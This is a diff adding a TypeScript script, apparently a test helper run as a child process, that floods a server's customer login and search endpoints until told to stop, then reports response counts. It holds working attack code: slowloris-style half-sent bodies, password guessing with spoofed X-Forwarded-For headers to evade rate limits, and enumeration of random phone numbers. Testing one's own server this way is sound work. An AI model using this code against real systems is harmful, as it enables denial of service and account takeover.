@@ -1,0 +1,75 @@
+// Somebody who attacks a server until they are told that it is enough, in a process of their own.
+import { randomInt } from 'node:crypto';
+import { connect } from 'node:net';
+
+/** How often what was answered. */
+export type Counts = Record<string, number>;
+
+const [url = '', cookie = '', attack = '', mobile = ''] = process.argv.slice(2);
+const counts: Counts = {};
+const enough = new AbortController();
+
+const count = (outcome: string | number) => {
+  counts[outcome] = (counts[outcome] ?? 0) + 1;
+};
+
+/** Does something so many times at once, each again as soon as it is over. */
+const atOnce = (many: number, act: () => Promise<unknown>) =>
+  Promise.all(
+    Array.from({ length: many }, async () => {
+      while (!enough.signal.aborted) await act();
+    }),
+  );
+
+async function asks(path: string, request: RequestInit): Promise<void> {
+  const outcome = await fetch(`${url}${path}`, request).then(
+    async (answer) => (await answer.text(), answer.status),
+    () => 'no answer',
+  );
+  count(outcome);
+}
+
+/** A guess from somewhere in the world. */
+const guess = (guessed: string) =>
+  asks('/api/customers/login', {
+    method: 'POST',
+    headers: {
+      'Content-Type': 'application/json',
+      'X-Forwarded-For': Array.from({ length: 4 }, () => randomInt(1, 224)).join('.'),
+    },
+    body: JSON.stringify({ mobile: guessed, password: `guess-${randomInt(1_000_000)}` }),
+  });
+
+/** Sends the beginning of a body, and waits until it is cut off. */
+const dawdle = () =>
+  new Promise<void>((resolve) => {
+    const { hostname, port } = new URL(url);
+    const socket = connect({ host: hostname, port: Number(port) });
+    const head = ['POST /api/customers/login HTTP/1.1', `Host: ${hostname}`];
+    const length = ['Content-Type: application/json', 'Content-Length: 100', '', '{'];
+    socket.write([...head, ...length].join('\r\n'));
+    let answer = '';
+    socket.on('data', (part) => (answer += String(part)));
+    socket.on('error', () => {});
+    socket.once('close', () => {
+      count(/^HTTP\/1.1 (\d+)/.exec(answer)?.[1] ?? 'cut off');
+      resolve();
+    });
+  });
+
+const attacks = {
+  'slow bodies': () => atOnce(1_100, dawdle),
+  'guesses for one guest': () => atOnce(320, () => guess(mobile)),
+  'guesses for anybody': () => atOnce(500, () => guess(`+9665${randomInt(10 ** 7, 10 ** 8)}`)),
+  'broad searches': () =>
+    atOnce(40, () => asks('/api/customers?q=9+9+9+a', { headers: { cookie } })),
+};
+
+export type AttackName = keyof typeof attacks;
+
+process.on('message', () => {
+  enough.abort();
+  process.send?.(counts);
+});
+
+if (process.send) await attacks[attack as AttackName]();
